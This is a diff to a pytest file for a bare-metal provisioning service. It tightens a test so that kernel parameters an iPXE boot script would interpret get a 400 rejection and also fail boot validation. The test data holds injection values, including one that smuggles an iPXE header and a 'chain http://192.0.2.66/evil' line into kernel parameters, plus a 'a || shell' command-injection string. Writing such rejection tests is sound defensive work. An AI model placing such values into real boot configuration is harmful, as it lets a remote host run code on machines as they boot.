@@ -16,9 +16,11 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from sqlalchemy import update
 
 from metalforge.config import load_settings
-from tests.support.api import LATEST, create_node, provision, wait_for_state
+from metalforge.db.models import Node
+from tests.support.api import LATEST, create_node, error_text, get_node, provision, wait_for_state
 from tests.support.images import ImageServer, image_server, kernel_bytes, ramdisk_bytes
 from tests.support.redfish import Bmc, start_bmc, start_redfish_stack
 from tests.support.stack import FAST_CONDUCTOR, Stack
@@ -236,7 +238,14 @@ def test_a_request_id_that_is_not_one_is_not_carried_to_the_node(
 
 @pytest.mark.parametrize(
     "value",
-    ["console=${net0/mac}", "a || shell", "quiet 'quoted'", 7, "x" * 2001],
+    [
+        "console=${net0/mac}",
+        "a || shell",
+        "quiet 'quoted'",
+        "quiet\n#!ipxe\nchain http://192.0.2.66/evil",
+        7,
+        "x" * 2001,
+    ],
 )
 def test_kernel_parameters_a_script_would_interpret_are_refused(
     stack: Stack, bmc: Bmc, images: ImageServer, value: object
@@ -247,7 +256,16 @@ def test_kernel_parameters_a_script_would_interpret_are_refused(
         json=[{"op": "add", "path": "/instance_info/kernel_append_params", "value": value}],
         headers=LATEST,
     )
-    assert patched.status_code == 200, patched.text
+    assert patched.status_code == 400, patched.text
+    assert "instance_info.kernel_append_params" in error_text(patched)
+    assert "kernel_append_params" not in get_node(stack.client, node["uuid"])["instance_info"]
+    # A value stored before it was checked at once (an older release) is refused at boot.
+    with stack.db.write() as session:
+        session.execute(
+            update(Node)
+            .where(Node.uuid == node["uuid"])
+            .values(instance_info={"kernel_append_params": value})
+        )
     boot = stack.client.get(f"/v1/nodes/{node['uuid']}/validate", headers=LATEST).json()["boot"]
     assert boot["result"] is False
     assert "instance_info.kernel_append_params" in boot["reason"]
@@ -268,7 +286,7 @@ def test_a_bad_deploy_image_fails_the_flow_at_once_with_the_reason(
     assert provision(stack.client, node["uuid"], "provide").status_code == 202
     failed = wait_for_state(stack.client, node["uuid"], "clean failed")
     assert "driver_info.deploy_kernel: kernel" in failed["last_error"]
-    assert "is not a kernel: it starts with '<html>Gateway Ti'" in failed["last_error"]
+    assert "is not a kernel: it is an HTML page" in failed["last_error"]
     assert _script(stack, node["mac"]).status_code == 404
 
 
